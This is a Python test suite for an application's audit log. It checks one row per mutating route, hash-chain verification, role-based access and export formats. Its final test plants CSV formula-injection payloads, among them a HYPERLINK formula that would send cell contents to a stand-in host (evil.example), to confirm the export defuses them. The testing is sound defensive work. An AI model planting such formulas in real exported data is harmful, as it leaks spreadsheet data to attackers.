"""Every route that changes something writes exactly one row of the audit log, whoever asks, and says from where."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest

from signalcraft.domain import ids
from signalcraft.storage import audit
from tests.http.asking import Other, asking, key_of, problem
from tests.http.audited import AGENT, ELSEWHERE, HOOK, MUTATING, RECIPES, Stage
from tests.http.browsing import QUIET
from tests.world import World


@pytest.fixture(scope="module")
def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
    with World(tmp_path_factory.mktemp("world") / "data", **QUIET) as world, ExitStack() as stack:
        world.channel("#oncall")
        yield Stage(world, stack)


def rows(world: World) -> list[audit.Stored]:
    return world._call(world.house.db.read(lambda tx: list(audit.every(tx, 1))))


def test_every_mutating_route_is_here() -> None:
    assert MUTATING - set(ELSEWHERE) - set(RECIPES) == set(), "say how they are asked, in RECIPES"
    assert set(RECIPES) | set(ELSEWHERE) <= MUTATING, "these are no routes (any more)"


@pytest.mark.parametrize("route", sorted(RECIPES))
def test_a_mutating_route_writes_exactly_one_row(stage: Stage, route: str) -> None:
    call = RECIPES[route](stage)
    stage.world.settled()
    before = rows(stage.world)
    answer: httpx.Response = call()
    assert 200 <= answer.status_code < 300, f"{answer.status_code} {answer.text}"
    made = rows(stage.world)[len(before) :]
    assert len(made) == 1, [(row.verb, row.what) for row in made]
    who = stage.world.get("/api/audit", limit=1)["items"][0]
    assert who["address"] == "127.0.0.1"
    assert who["user_agent"] in (AGENT, stage.api.headers["user-agent"])
    assert who["request_id"] == answer.headers["x-request-id"]
    assert who["actor"]["kind"] in ("user", "api_key")
    assert who["verb"] != "asked" or route in UNCHANGED, f"{route} writes down nothing by itself"


UNCHANGED = {"POST /api/people/{id:str}/unlock"}  # nobody was locked: that it was asked is the row


def test_the_chain_still_holds_after_all_that(stage: Stage) -> None:
    said = stage.world.get("/api/audit/verification")
    assert said["holds"], said
    assert said["rows"] == len(rows(stage.world))


@pytest.mark.parametrize("dry", [True, False])
def test_what_changes_nothing_is_one_row_too_and_what_is_refused_is_none(stage: Stage, dry: bool) -> None:
    before = len(rows(stage.world))
    toml = f'[[channels]]\nname = "{stage.name()}"\nkind = "webhook"\nurl = "https://example.com/z"'
    if dry:
        assert stage.ask("POST", "/api/config/apply", {"toml": toml, "dry_run": True}).status_code == 200
    else:
        rule = stage.rule()
        before = len(rows(stage.world))
        assert stage.ask("PATCH", f"/api/routing-rules/{rule}", {}).status_code == 200
    made = rows(stage.world)[before:]
    assert [row.verb for row in made] == ["asked"]
    problem(stage.ask("POST", "/api/channels", {"name": ""}), 422)
    problem(asking(stage.world).post("/api/channels", json={"name": "x"}), 401)
    assert len(rows(stage.world)) == before + 1


def test_reading_by_post_writes_nothing(stage: Stage) -> None:
    before = len(rows(stage.world))
    sample = {"event": {"title": "x", "environment": "prod"}}
    assert stage.ask("POST", "/api/routing-rules/test", sample).status_code in (200, 422)
    _, _, token = stage.invitation()
    before = len(rows(stage.world))
    assert stage.ask("POST", "/api/invitations/preview", {"token": token}).status_code == 200
    assert len(rows(stage.world)) == before


def test_a_press_in_slack_and_a_signed_link_write_a_row_each(tmp_path: Path) -> None:
    with World(tmp_path / "data") as world:
        world.rule("", "#oncall")
        world.receives("sentry", "event_alert")
        before = len(rows(world))
        world.press(world.told[0], "ack", by="Kim")
        pressed = rows(world)[before:]
        assert [row.verb for row in pressed] == ["acknowledged"]
        row = world.get("/api/audit", verb="acknowledged")["items"][0]
        assert (row["actor"]["kind"], row["actor"]["name"]) == ("slack", "kim")
        assert row["address"] == "127.0.0.1"
        assert row["request_id"]
        from signalcraft.domain import links
        from signalcraft.services.deliver import LINK_PURPOSE

        group = world.groups()[0]
        channel = ids.parse(world.get("/api/channels")["items"][0]["id"])
        key, ends_ms = world.house.vault.derive(LINK_PURPOSE), world.clock.at_ms + 3_600_000
        token = links.sign(key, ids.parse(group["id"]), channel, "resolve", ends_ms)
        assert asking(world).post(f"/answer/{token}").status_code == 200
        assert [row.verb for row in rows(world)[before:]] == ["acknowledged", "resolved"]


def test_a_webhook_writes_no_row(stage: Stage) -> None:
    stage.world.receives("sentry", "event_alert", project="quiet")  # the integration is made
    before = len(rows(stage.world))
    stage.world.receives("sentry", "event_alert", project="quiet")
    assert len(rows(stage.world)) == before


# -- reading it -------------------------------------------------------------------------------------------------------


def test_the_log_is_read_in_pages_and_by_what_is_looked_for(stage: Stage) -> None:
    made = [stage.channel() for _ in range(3)]
    get = stage.world.get
    seen = []
    cursor = ""
    for _ in range(3):
        page = get("/api/audit", verb="channel.created", limit=1, **({"cursor": cursor} if cursor else {}))
        seen.append(page["items"][0]["thing"])
        cursor = page["next"]
    assert seen == made[::-1]
    assert [row["verb"] for row in get("/api/audit", thing=made[0])["items"]] == ["channel.created"]
    key = get("/api/audit", thing=made[0])["items"][0]["actor"]["id"]
    mine = get("/api/audit", actor=key, limit=100)["items"]
    assert mine
    assert {row["actor"]["id"] for row in mine} == {key}
    assert get("/api/audit", actor="nobody")["items"] == []
    at = get("/api/audit", limit=1)["items"][0]["at"]
    assert get("/api/audit", until="2026-01-01T00:00:00Z")["items"] == []
    assert get("/api/audit", **{"from": at})["items"]
    problem(stage.api.get("/api/audit?from=yesterday"), 422, path="from")


def test_only_owners_and_admins_read_it_and_only_their_own_workspaces(stage: Stage) -> None:
    for role, status in (("owner", 200), ("admin", 200), ("member", 403), ("viewer", 403)):
        it = stage.browser(role)
        for path in ("/api/audit", "/api/audit/export", "/api/audit/verification", "/api/admin/security/audit"):
            assert it.ask("GET", path).status_code == status, f"{role} {path}"
    with Other(stage.world) as other:
        channel = stage.channel()
        assert other.api.get("/api/audit", params={"thing": channel}).json()["items"] == []


# -- as a file --------------------------------------------------------------------------------------------------------


def test_the_lines_of_the_export_can_be_verified_by_anybody(stage: Stage) -> None:
    import hashlib
    import json

    lines = stage.api.get("/api/audit/export").text.splitlines()
    assert len(lines) == len(rows(stage.world))
    before = bytes(32)
    for line in lines:
        row = json.loads(line)
        for part in ("who", "what"):
            if row[part] is None:
                continue  # erased: its digest still counts below
            text = json.dumps(row[part], ensure_ascii=False, separators=(",", ":"))
            digest = hashlib.sha256(bytes.fromhex(row[f"{part}_salt"]) + text.encode()).hexdigest()
            assert digest == row[f"{part}_digest"], line
        numbers = b"".join(row[name].to_bytes(8, "big") for name in ("workspace", "seq", "at_ms"))
        verb = row["verb"].encode()
        digests = bytes.fromhex(row["who_digest"] + row["what_digest"])
        before = hashlib.sha256(before + numbers + len(verb).to_bytes(2, "big") + verb + digests).digest()
        assert before.hex() == row["chain"]


def test_a_cell_of_the_csv_is_never_a_formula(stage: Stage) -> None:
    import csv
    import io

    evil = '=HYPERLINK("http://evil.example/?x="&A1)'
    with asking(stage.world, key_of(stage.world, "admin"), **{"User-Agent": evil}) as client:
        client.post("/api/channels", json={"name": "@SUM(1+1)", **HOOK}).raise_for_status()
    text = stage.api.get("/api/audit/export", params={"format": "csv"}).text
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == len(rows(stage.world))
    assert len(text.splitlines()) == len(table) + 1
    assert table[-1]["user_agent"] == f"'{evil}"
    assert "@SUM" in table[-1]["data"]
    for row in table:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    some = stage.api.get("/api/audit/export", params={"format": "csv", "after": 3, "most": 2}).text
    assert [row[0] for row in csv.reader(io.StringIO(some))] == ["4", "5"]
